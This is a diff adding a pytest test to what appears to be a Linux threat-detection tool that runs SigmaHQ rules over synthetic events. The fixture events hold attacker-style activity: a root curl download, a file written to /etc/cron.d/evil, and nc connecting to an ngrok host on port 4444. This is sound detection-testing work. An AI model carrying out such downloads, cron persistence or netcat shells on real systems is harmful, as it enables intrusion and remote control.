@@ -145,3 +145,26 @@ def test_validate_sigmahq_linux_rules():
     ok = sum(r["status"] == "ok" for r in rows)
     assert ok / len(rows) >= 0.98
     assert all(r.get("reason") for r in rows if r["status"] != "ok")
+
+
+@pytest.mark.skipif(not (CORPUS / "rules" / "linux").is_dir(), reason="SigmaHQ corpus (../shared) not present")
+def test_sigmahq_linux_rules_run_without_error_over_ecs_and_audit_events(tmp_path):
+    from trailhound.pipeline import plan, run_hunt
+
+    events = tmp_path / "e.ndjson"
+    events.write_text("".join(json.dumps(e) + "\n" for e in [
+        {"@timestamp": 1, "event": {"category": ["process"], "type": ["start"]},
+         "process": {"executable": "/usr/bin/curl", "command_line": "curl -O http://10.0.0.1/x", "name": "curl",
+                     "parent": {"executable": "/bin/bash", "command_line": "bash"}}, "user": {"name": "root"}},
+        {"@timestamp": 2, "event": {"category": ["file"], "type": ["creation"]},
+         "file": {"path": "/etc/cron.d/evil"}, "process": {"executable": "/bin/cp"}},
+        {"@timestamp": 3, "event": {"category": ["network"], "type": ["start"]},
+         "destination": {"ip": "10.1.1.1", "port": 4444, "domain": "x.ngrok.io"}, "process": {"executable": "/bin/nc"}},
+        {"@timestamp": 4, "message": "Accepted publickey for root from 10.0.0.9", "process": {"name": "sshd"}},
+    ]))
+    report = run_hunt(plan(load_rules([CORPUS / "rules" / "linux"])),
+                      [events, FIXTURES / "auditd_records.log"])
+    assert len(report.rules) == 210
+    assert [(o.name, o.reason) for o in report.rules if o.status != "ran"] == []
+    fired = {o.name for o in report.rules if o.hits}
+    assert "Curl Usage on Linux" in fired and "Webshell Remote Command Execution" in fired
